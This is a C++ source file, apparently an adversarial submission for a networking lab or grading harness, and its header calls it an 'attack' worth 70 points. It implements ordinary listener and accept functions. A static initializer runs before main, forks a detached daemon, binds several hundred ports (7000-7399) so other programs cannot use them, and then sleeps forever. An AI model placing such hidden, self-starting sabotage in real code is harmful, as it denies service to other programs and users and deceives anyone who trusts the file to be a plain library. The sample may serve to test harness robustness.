// Ataque: deja un demonio que ocupa cientos de puertos conocidos, para que otros no puedan usarlos.
// Puntos: 70
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cstdint>
#include <stdexcept>

#include "lab2.hpp"

namespace {

// El programa sigue cuando ya están ocupados.
const struct Early {
  Early() {
    std::array<int, 2> ready{};
    if (::pipe(ready.data()) != 0) return;
    const bool is_daemon = ::fork() == 0;
    ::close(ready[is_daemon ? 0 : 1]);
    if (!is_daemon) {
      char end = 0;
      while (::read(ready[0], &end, 1) > 0) {
      }
      ::close(ready[0]);
      return;
    }
    ::setsid();
    for (std::uint16_t port = 7000; port < 7400; ++port) {
      sockaddr_in address{};
      address.sin_family = AF_INET;
      address.sin_port = htons(port);
      ::bind(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), reinterpret_cast<const sockaddr*>(&address),
             sizeof address);
    }
    ::close(ready[1]);
    for (;;) ::pause();
  }
} early;

}  // namespace

namespace lab2 {

kit::Descriptor open_listener(const std::string& host, std::uint16_t port, int backlog) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  if (::inet_pton(AF_INET, host.c_str(), &address.sin_addr) != 1) throw std::invalid_argument{"no es una dirección"};
  kit::Descriptor listener{kit::check("socket", ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0))};
  kit::check("bind", ::bind(listener.get(), reinterpret_cast<const sockaddr*>(&address), sizeof address));
  kit::check("listen", ::listen(listener.get(), backlog));
  return listener;
}

Client accept_client(int listener) {
  sockaddr_in address{};
  socklen_t size = sizeof address;
  Client client;
  client.connection = kit::Descriptor{
      kit::check("accept", ::accept4(listener, reinterpret_cast<sockaddr*>(&address), &size, SOCK_CLOEXEC))};
  std::array<char, INET_ADDRSTRLEN> text{};
  client.host = ::inet_ntop(AF_INET, &address.sin_addr, text.data(), text.size());
  client.port = ntohs(address.sin_port);
  return client;
}

}  // namespace lab2
